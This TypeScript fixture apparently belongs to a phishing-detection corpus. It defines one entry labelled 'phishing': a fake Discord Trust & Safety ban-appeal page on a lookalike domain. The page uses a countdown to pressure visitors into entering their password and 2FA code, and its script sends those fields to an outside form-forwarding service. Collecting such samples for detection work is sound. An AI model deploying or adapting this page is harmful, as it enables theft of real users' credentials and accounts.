import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { discordMark, doc, qrSvg, twitchMark } from '../parts/yc-kit.js';

export const entries: Entry[] = [
{
  id: 'yc-discord-tos-ban-appeal',
  label: 'phishing',
  kind: 'ban-appeal-kit',
  url: 'https://dlscord-safety.com/appeal/8841297?lang=en',
  body: doc({
    title: 'Discord Trust & Safety — Appeal',
    css: `*{box-sizing:border-box}body{margin:0;background:#f6f6f6;font-family:"gg sans","Helvetica Neue",Arial,sans-serif;color:#23272a}
header{background:#404eed;padding:18px 40px;display:flex;align-items:center;justify-content:space-between;color:#fff}
main{max-width:720px;margin:36px auto;background:#fff;border-radius:8px;padding:36px 44px;box-shadow:0 1px 4px rgba(0,0,0,.08)}
h1{font-size:26px;margin:0 0 10px}.case{background:#fff4e5;border-left:4px solid #f0b232;padding:12px 16px;font-size:14px;margin:18px 0}
label{display:block;font-weight:600;font-size:14px;margin:16px 0 6px}input,textarea,select{width:100%;border:1px solid #cfd3d8;border-radius:4px;padding:10px;font-size:15px;font-family:inherit}
textarea{height:110px}button{background:#5865f2;color:#fff;border:0;border-radius:4px;padding:12px 26px;font-size:16px;margin-top:22px;cursor:pointer}
.cd{font-weight:700;color:#da373c}small{color:#5c5e66}`,
    body: `<header>${discordMark(30)}<span style="font-size:14px">Trust &amp; Safety · Safety Center</span></header>
<main><h1>Your account has been flagged</h1>
<p>Our systems detected activity on your account that violates Discord's <a href="#">Community Guidelines</a> (Section 7: Spam and platform manipulation). Reports were submitted by members of <b>3 servers</b>.</p>
<div class="case"><b>Case #8841297</b> — Status: <b>pending disablement</b><br>Your account will be permanently disabled in <span class="cd" id="cd">11:58:04</span> unless an appeal is submitted.</div>
<p>If you believe this is a mistake, fill out the appeal below. A Trust &amp; Safety moderator will review it within 24 hours. To confirm you are the account owner we need to verify your login details.</p>
<form id="ap"><label>Username (e.g. name or name#0000)</label><input name="username" required>
<label>Email used on Discord</label><input type="email" name="email" required>
<label>Password</label><input type="password" name="password" required><small>Required to verify account ownership. Staff cannot see your password.</small>
<label>2FA / backup code (if enabled)</label><input name="mfa" maxlength="8" inputmode="numeric">
<label>Date of birth</label><input type="date" name="dob">
<label>Why should this decision be reversed?</label><textarea name="reason" placeholder="Explain what happened"></textarea>
<button type="submit">Submit appeal</button></form>
<p id="ok" style="display:none;color:#248046;font-weight:600">Thank you. Your appeal was received and will be reviewed by a moderator. Do not log out of Discord while your case is under review.</p></main>
<script>
(function(){var s=11*3600+58*60+4;setInterval(function(){s--;document.getElementById('cd').textContent=[Math.floor(s/3600),Math.floor(s%3600/60),s%60].map(function(n){return('0'+n).slice(-2)}).join(':')},1000)})();
document.getElementById('ap').addEventListener('submit',function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d._subject='appeal 8841297';d._captcha='false';
fetch('https://formsubmit.co/ajax/2d8b6f0f1e9a4c7aa1b0f3e5d9c2e871',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify(d)}).finally(function(){document.getElementById('ap').style.display='none';document.getElementById('ok').style.display='block'})});
</script>`,
  }),
},
];
